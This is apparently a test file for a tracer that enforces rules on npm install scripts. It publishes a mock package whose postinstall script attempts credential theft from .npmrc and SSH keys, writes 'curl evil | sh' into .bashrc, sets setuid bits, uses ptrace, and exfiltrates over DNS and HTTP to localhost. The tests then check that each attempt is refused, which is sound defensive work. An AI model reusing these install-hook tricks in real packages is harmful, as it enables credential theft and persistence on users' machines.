/**
 * `run --enforce` where functions of the kernel can be hooked: attacks of a package are refused before they happen, with a lock
 * file, with rules and with each preset. io_uring and 32-bit calls are seen and refused like everything else. A tracer with
 * so many hooks takes long to open in a guest, so only the lock file has its turn before the night.
 */
import assert from 'node:assert/strict';
import { spawn, type ChildProcess } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { run } from '../../lib/index.js';
import type { Behavior, RunOptions, RunSummary } from '../../types/index.js';
import { CACHES, findManagers, MANAGER_NAMES, managerEnvironment, type Manager } from '../native/run/managers.js';
import { Registry } from '../native/run/registry.js';
import { NIGHTLY } from '../nightly.js';
import { programFile, checkout, describeOn } from './support.js';

const EPERM = 1;
const EACCES = 13;

/** Tries everything, and writes the errno of each attempt, or 0, into a file of the project. */
const ATTACK = `
const { execFileSync, spawnSync } = require('node:child_process');
const fs = require('node:fs');
const { Worker } = require('node:worker_threads');
// the folder in which the package manager was started
const project = process.env.INIT_CWD ?? '../..';
const { home, victim, port } = JSON.parse(fs.readFileSync(project + '/attack'));
const results = {};
const errnoOf = (error) => error === undefined || error === null ? 0 : Math.abs(error.errno ?? 999);
const attempt = (name, work) => { try { work(); results[name] = 0; } catch (error) { results[name] = errnoOf(error); } };
const tool = (name, ...args) => {
  const { error, stdout } = spawnSync(__dirname + '/' + name, args, { encoding: 'utf8' });
  if (error) results[name + ' ' + args[0]] = errnoOf(error);
  for (const line of (stdout ?? '').split('\\n').filter(Boolean)) results[line.split(' ')[0]] = Number(line.split(' ')[1]);
};
attempt('npmrc', () => fs.readFileSync(home + '/.npmrc'));
attempt('bashrc', () => fs.writeFileSync(home + '/.bashrc', 'curl evil | sh'));
attempt('folder', () => fs.mkdirSync(home + '/.evil'));
attempt('link', () => fs.linkSync(home + '/.profile', __dirname + '/profile'));
attempt('program', () => {
  fs.copyFileSync(__dirname + '/ways', __dirname + '/own');
  const { error } = spawnSync(__dirname + '/own');
  if (error) throw error;
});
attempt('chmod', () => fs.chmodSync(home + '/tool', 0o4755));
tool('attacks', 'raw', home + '/.ssh/id_rsa', __dirname + '/package.json', home + '/tool');
tool('attacks', 'ptrace', String(victim));
tool('attacks', 'memory');
tool('ways', home + '/by', String(port));
spawnSync('setsid', ['--wait', 'sh', '-c', '( sh -c "echo x > ' + home + '/by-grandchild" ) & wait']);
results.grandchild = fs.existsSync(home + '/by-grandchild') ? 0 : ${EACCES};
const { error } = spawnSync('sh', ['-c', 'setsid sleep 300 > /dev/null 2>&1 < /dev/null &']);
results.daemon = errnoOf(error);
const worker = new Worker('try { require("node:fs").writeFileSync(' + JSON.stringify(home + '/by-thread') + ', "x") } catch {}', { eval: true });
worker.on('exit', () => {
  results.thread = fs.existsSync(home + '/by-thread') ? 0 : ${EACCES};
  const socket = require('node:dgram').createSocket('udp4');
  const name = [9, ...Buffer.from('deadbeef0'), 4, ...Buffer.from('evil'), 7, ...Buffer.from('invalid'), 0];
  socket.send(Buffer.from([1, 2, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, ...name, 0, 16, 0, 1]), 53, '127.0.0.1', (failure) => {
    results.dns = errnoOf(failure);
    socket.close();
    const end = (failure) => { results.post = errnoOf(failure); fs.writeFileSync(project + '/results', JSON.stringify(results)); };
    require('node:http').request({ port, host: '127.0.0.1', method: 'POST' }, (r) => r.resume().on('end', end)).on('error', end).end('token');
  });
});`;
const INDEX = `
const { spawnSync } = require('node:child_process');
if (require('node:fs').existsSync((process.env.INIT_CWD ?? '../..') + '/attack')) require('./attack.js');
else for (const tool of ['attacks', 'ways']) spawnSync(__dirname + '/' + tool);`;

/** The way that the script takes, and what must happen to it in any case. */
const FILES = [
  'bashrc',
  'folder',
  'link',
  'chmod',
  'raw-rename',
  'ring-open',
  'worker-open',
  'open-32',
  'grandchild',
  'thread',
];
const CONNECTIONS = ['dns', 'post', 'ring-connect', 'connect-32', 'socketcall-32'];
const LOCKED = ['npmrc', 'raw-open'];

const PROJECT = JSON.stringify({ name: 'project', version: '1.0.0', dependencies: { nice: '*' } });
const MANIFEST = { name: 'nice', version: '1.0.0', scripts: { postinstall: 'node index.js' } };

describeOn('6.12', 'run: what is not allowed is refused', function () {
  // on the file system of the home: links and renames between two are no use to an attack
  const shop = '/root/run-enforced';
  const home = '/root/run-home';
  const project = join(shop, 'project');
  const lock = join(project, 'polytrace-lock.yaml');
  let registry: Registry;
  let server: Server;
  let victim: ChildProcess;
  let env: Record<string, string>;
  before(async () => {
    for (const folder of [project, join(home, '.ssh')]) mkdirSync(folder, { recursive: true });
    writeFileSync(join(home, '.npmrc'), '//registry.invalid/:_authToken=secret\n');
    for (const file of ['.ssh/id_rsa', 'tool', '.profile']) writeFileSync(join(home, file), 'before');
    registry = await Registry.start(mkdtempSync(join(shop, 'registry-')));
    server = createServer((request, response) => void request.resume().on('end', () => response.end('thanks')));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    victim = spawn('sleep', ['3600']);
    const files = {
      'index.js': INDEX,
      'attack.js': ATTACK,
      attacks: readFileSync(programFile('attacks')),
      ways: readFileSync(programFile('run-ways')),
    };
    registry.publish({ name: 'nice', scripts: { postinstall: 'node index.js' }, files });
    // as npm installs it
    const installed = join(project, 'node_modules/nice');
    mkdirSync(installed, { recursive: true });
    for (const [name, text] of Object.entries(files)) writeFileSync(join(installed, name), text, { mode: 0o755 });
    writeFileSync(join(installed, 'package.json'), JSON.stringify(MANIFEST));
    writeFileSync(join(project, 'package.json'), PROJECT);
    env = managerEnvironment(home, registry.url);
  });
  after(async () => {
    victim?.kill('SIGKILL');
    server?.close();
    await registry?.stop();
    for (const folder of [shop, home]) rmSync(folder, { recursive: true, force: true });
  });

  function startAttacks(folder = project): void {
    const { port } = server.address() as AddressInfo;
    writeFileSync(join(folder, 'attack'), JSON.stringify({ home, victim: victim.pid, port }));
    rmSync(join(folder, 'results'), { force: true });
    for (const name of ['.bashrc', '.evil', 'by-ring', 'by-worker', 'by-32', 'by-grandchild', 'by-thread'])
      rmSync(join(home, name), { recursive: true, force: true });
    // what an attack has moved or linked that was not refused
    rmSync(join(project, 'node_modules/nice/profile'), { force: true });
    writeFileSync(join(project, 'node_modules/nice/package.json'), JSON.stringify(MANIFEST));
    writeFileSync(join(home, 'tool'), 'before');
  }

  async function follow(
    command: readonly string[],
    options: RunOptions,
    folder = project,
  ): Promise<{
    readonly summary: RunSummary;
    readonly violations: readonly Behavior[];
    readonly results: Record<string, number>;
  }> {
    const handle = await run(command, { cwd: folder, env, ...options });
    const [summary, violations] = [await handle.summary, await handle.violations];
    if (options.enforce !== undefined) assert.equal(handle.enforcement, 'refuse');
    const file = join(folder, 'results');
    return {
      summary,
      violations,
      results: existsSync(file) ? (JSON.parse(readFileSync(file, 'utf8')) as Record<string, number>) : {},
    };
  }

  const nightly = NIGHTLY ? it : undefined;
  const rebuild = ['npm', 'rebuild', '--foreground-scripts'];
  /** Runs the script of the package as npm does. */
  const script = [
    'sh',
    '-c',
    'cd node_modules/nice && npm_package_name=nice npm_lifecycle_event=postinstall npm_package_json=$PWD/package.json sh -c "node index.js"',
  ];
  const refused = ({ behaviors }: RunSummary): string[] =>
    behaviors
      .filter((each) => each.refused === true)
      .map((each) => `${each.package ?? '.'} ${each.kind} ${each.subject}`);
  const pick = (results: Record<string, number>, names: readonly string[]) =>
    Object.fromEntries(names.map((name) => [name, results[name]]));
  const all = (names: readonly string[], errno: number) => Object.fromEntries(names.map((name) => [name, errno]));

  function assertRefused(summary: RunSummary, results: Record<string, number>, what: readonly string[]): void {
    assert.deepEqual(pick(results, what), all(what, EACCES));
    for (const name of ['ptrace', 'readv']) assert.equal(results[name], EPERM, name);
    for (const name of ['environ', 'mem'])
      assert.ok([EPERM, EACCES].includes(results[name] ?? 0), `${name} ${results[name]}`);
    assert.ok(!existsSync(join(home, '.bashrc')) && readFileSync(join(home, 'tool'), 'utf8') === 'before');
    const lines = refused(summary);
    for (const part of [
      `nice secret ${home}/.npmrc`,
      `nice secret ${home}/.ssh/id_rsa`,
      `nice write ${home}/.bashrc`,
      `nice write ${home}/by-ring`,
      `nice write ${home}/by-worker`,
      `nice write ${home}/by-32`,
    ])
      assert.ok(lines.includes(part), `${part} is not in\n${lines.join('\n')}`);
    assert.ok(
      lines.every((line) => line.startsWith('nice ')),
      lines.join('\n'),
    );
    assert.equal(summary.lost, 0);
  }

  it('with a lock file: what it does not have is refused, and the rest is not disturbed', async () => {
    const command = NIGHTLY ? rebuild : script;
    const first = await follow(command, { lock });
    assert.equal(first.summary.exitCode, 0);
    assert.deepEqual(first.summary.unseen, []);
    startAttacks();
    const { summary, results, violations } = await follow(command, { lock, enforce: true });
    assert.equal(summary.exitCode, 0);
    // a program that the package writes itself is none of the lock file, in the working folder, too
    assertRefused(summary, results, ['program', ...LOCKED, ...FILES, ...CONNECTIONS]);
    assert.ok(refused(summary).some((line) => /^nice exec .*\/setsid$/.test(line)));
    // each is also new against the lock file, and nothing else is but what is never refused: ordinary reads
    const isNew = new Set(violations);
    assert.ok(summary.behaviors.every((each) => each.refused !== true || isNew.has(each)));
    assert.deepEqual(
      violations
        .filter((each) => each.refused !== true && !['read', 'unseen', 'memory'].includes(each.kind))
        .map(({ fact }) => fact),
      [],
    );
  });

  for (const [i, name] of MANAGER_NAMES.entries()) {
    nightly?.(`${name} with a lock file: what the package does is refused, and the installation succeeds`, async () => {
      const { install } = (await findManagers())[i] as Manager;
      const folder = mkdtempSync(join(shop, 'managed-'));
      writeFileSync(join(folder, 'package.json'), PROJECT);
      const own = join(folder, 'polytrace-lock.yaml');
      const clean = (): void => {
        rmSync(join(folder, 'node_modules'), { recursive: true, force: true });
        for (const cache of CACHES) rmSync(join(home, cache), { recursive: true, force: true });
      };
      clean();
      assert.equal((await follow(install, { lock: own }, folder)).summary.exitCode, 0);
      // nothing of an installation without an attack is refused
      clean();
      const again = await follow(install, { lock: own, enforce: true }, folder);
      assert.deepEqual([again.summary.exitCode, refused(again.summary)], [0, []]);
      clean();
      startAttacks(folder);
      const { summary, results } = await follow(install, { lock: own, enforce: true }, folder);
      assert.equal(summary.exitCode, 0);
      assertRefused(summary, results, ['program', ...LOCKED, ...FILES, ...CONNECTIONS]);
    });
  }

  nightly?.(
    'without enforcement, everything is seen, also by io_uring and with 32 bits, and new against the lock file',
    async () => {
      const other = join(shop, 'install.yaml');
      const install = ['npm', 'install', '--no-package-lock', '--foreground-scripts'];
      const first = await follow(install, { lock: other });
      assert.equal(first.summary.exitCode, 0);
      startAttacks();
      const { summary, violations } = await follow(rebuild, { lock: other, killRemaining: true });
      assert.equal(summary.exitCode, 0);
      const lines = violations.map((each) => `${each.package ?? '.'} ${each.kind} ${each.subject}`);
      const { port } = server.address() as AddressInfo;
      for (const part of [
        `nice secret ${home}/.npmrc`,
        `nice write ${home}/by-ring`,
        `nice write ${home}/by-worker`,
        `nice write ${home}/by-32`,
        `nice connect 127.0.0.1:${port}`,
        'nice unseen io_uring',
      ])
        assert.ok(lines.includes(part), `${part} is not in\n${lines.join('\n')}`);
      assert.ok(
        lines.every((line) => line.startsWith('nice ')),
        lines.join('\n'),
      );
      assert.ok(!summary.unseen.some((text) => text.includes('io_uring')), summary.unseen.join('\n'));
      // what the attacks have moved
      writeFileSync(join(home, 'tool'), 'before');
      writeFileSync(join(project, 'node_modules/nice/package.json'), JSON.stringify(MANIFEST));
    },
  );

  nightly?.('with rules', async () => {
    startAttacks();
    const { summary, results } = await follow(script, {
      enforce: { denySecrets: true, allowWrite: [join(shop, 'out')], allowConnect: ['192.0.2.0/24', '127.0.0.1:1'] },
    });
    assertRefused(summary, results, [...LOCKED, ...FILES, ...CONNECTIONS]);
    assert.deepEqual(
      summary.remaining.map(({ binary, killed }) => [binary.endsWith('/sleep'), killed]),
      [[true, true]],
    );
  });

  nightly?.('a run in it cannot use BPF, and says why', async () => {
    const inner = `"$0" ${join(checkout, 'dist/cli/main.js')} run -- true 2> inner; echo $? > status`;
    await follow(['sh', '-c', inner, process.execPath], { enforce: { denySecrets: true } });
    assert.equal(readFileSync(join(project, 'status'), 'utf8'), '3\n');
    assert.match(readFileSync(join(project, 'inner'), 'utf8'), /error NOT_PERMITTED: [^]*another `polytrace run`/);
  });

  for (const preset of ['install', 'build', 'test'] as const) {
    nightly?.(`with the preset ${preset}`, async () => {
      startAttacks();
      const { summary, results } = await follow(script, { enforce: { preset } });
      // a test may use loopback
      const connections = preset === 'test' ? [] : CONNECTIONS;
      assertRefused(summary, results, [...LOCKED, ...FILES, ...connections]);
      if (preset === 'test') assert.deepEqual(pick(results, ['post', 'connect-32']), all(['post', 'connect-32'], 0));
    });
  }
});
